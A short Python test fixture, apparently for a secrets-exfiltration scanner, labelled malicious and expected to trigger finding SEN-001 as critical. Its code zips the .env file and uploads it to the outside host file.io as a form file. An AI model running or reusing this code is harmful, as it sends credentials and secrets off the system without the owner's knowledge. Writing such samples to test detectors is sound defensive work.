# does: packs .env into a zip and uploads it as a form's file
# kind: malicious
# expect: SEN-001 critical proven
import io
import urllib.request
import zipfile

out = io.BytesIO()
with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
    archive.write(".env")
body = b'--x\r\nContent-Disposition: form-data; name="file"; filename="a.zip"\r\n\r\n' + out.getvalue() + b"\r\n--x--\r\n"
urllib.request.urlopen(urllib.request.Request("https://file.io/", body, {"Content-Type": "multipart/form-data; boundary=x"})).read()
